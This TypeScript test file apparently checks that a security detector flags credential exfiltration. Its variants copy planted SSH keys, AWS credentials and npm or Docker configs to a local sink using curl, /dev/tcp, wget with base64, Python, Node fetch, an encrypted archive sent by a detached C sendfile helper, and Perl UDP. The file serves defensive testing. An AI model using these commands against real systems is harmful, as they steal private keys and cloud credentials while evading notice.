import assert from "node:assert/strict";
import { type Sink, sink } from "../sink.ts";
import { compile, secret, stores } from "../stores.ts";
import type { Place } from "../traced_job.ts";
import type { Variant } from "../variant.ts";

let peer: Sink;
async function prepare(place: Place) {
  stores(place, ".ssh/id_rsa", ".aws/credentials", ".npmrc", ".docker/config.json");
  peer = await sink();
  return peer.close;
}

const happened = () => assert.ok(peer.taken().includes(secret), `only ${peer.taken()}`);
/** What is packed on its way shows by its length alone. */
const happenedPacked = () => assert.ok(peer.taken().length > 200, `only ${peer.taken()}`);
const found = {
  ...{ signature: "JW-122", severity: "high", behaviour: "exfiltration" },
  message: /ssh/,
} as const satisfies Partial<Variant["found"]>;

const script = (text: (url: string) => string) => (): string[] => [
  "sh",
  "-c",
  text(`http://127.0.0.1:${peer.port}/`),
];

const sender = `#include <arpa/inet.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int count, char **args) {
  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(args[1])),
                            .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (void *)&to, sizeof(to))) return 1;
  if (sendfile(s, open(args[2], O_RDONLY), 0, 4096) < 0) return 2;
  char answer;
  shutdown(s, SHUT_WR);
  return read(s, &answer, 1) != 0;
}`;

export const variants: Variant[] = [
  {
    name: "curl uploads the file",
    prepare,
    command: script((url) => `curl -s --data-binary @$HOME/.ssh/id_rsa ${url}`),
    happened,
    found: { ...found, program: "/curl" },
  },
  {
    name: "curl uploads it as a form, under another name",
    prepare,
    command: script((url) => `cp ~/.ssh/id_rsa log.txt; curl -s -F file=@log.txt ${url}`),
    happened,
    found: { ...found, program: "/curl" },
  },
  {
    name: "a shell copies it into a connection by itself",
    prepare,
    command: () => ["bash", "-c", `cat ~/.ssh/id_rsa >/dev/tcp/127.0.0.1/${peer.port}`],
    happened,
    found: { ...found, program: "/cat" },
  },
  {
    name: "wget takes it from a variable of the script",
    prepare,
    command: script((url) => `k=$(base64 -w0 ~/.ssh/id_rsa); wget -qO- "${url}?k=$k"`),
    happened: () => {
      assert.ok(peer.taken().includes(Buffer.from(`${secret}\n`).toString("base64")));
    },
    found: { ...found, program: "/wget" },
  },
  {
    name: "python posts several",
    prepare,
    command: () => [
      "python3",
      "-c",
      `import os, urllib.request
home = os.path.expanduser("~/")
loot = "".join(open(home + name).read() for name in [".ssh/id_rsa", ".aws/credentials", ".npmrc"])
urllib.request.urlopen("http://127.0.0.1:${peer.port}/", loot.encode())`,
    ],
    happened,
    found: { ...found, severity: "critical", program: "/python3.11", message: /aws.*npm/ },
  },
  {
    name: "node lets cat read it, and posts it itself",
    prepare,
    command: () => [
      "node",
      "-e",
      `const key = require("child_process").execSync("cat ~/.ssh/id_rsa");
       fetch("http://127.0.0.1:${peer.port}/", { method: "POST", body: key });`,
    ],
    happened,
    found: { ...found, program: "/node" },
  },
  {
    name: "an archive is encrypted and sent by a process that is no relative",
    prepare: (place) => {
      compile(place, "send", sender);
      return prepare(place);
    },
    command: script(
      () =>
        "tar czf a.tgz -C ~ .ssh .docker; openssl enc -aes-256-cbc -pass pass:x -in a.tgz -out a.enc 2>/dev/null;" +
        `rm a.tgz; (setsid sh -c "sh -c './send ${peer.port} a.enc; touch sent'" &); ` +
        "while ! test -e sent; do :; done",
    ),
    happened: happenedPacked,
    found: { ...found, program: "/send" },
  },
  {
    name: "C connects first and sends by the kernel",
    prepare: (place) => {
      compile(place, "send", sender);
      return prepare(place);
    },
    command: ({ home }) => ["./send", String(peer.port), `${home}/.ssh/id_rsa`],
    happened,
    found: { ...found, program: "/send" },
  },
  {
    name: "perl sends it in a datagram",
    prepare,
    command: () => [
      "perl",
      "-MSocket",
      "-e",
      `open(F, "<", "$ENV{HOME}/.ssh/id_rsa"); socket(S, PF_INET, SOCK_DGRAM, 0);
       send(S, <F>, 0, sockaddr_in(${peer.port}, inet_aton("127.0.0.1"))); recv(S, my $answer, 9, 0);`,
    ],
    happened,
    found: { ...found, program: "/perl" },
  },
];
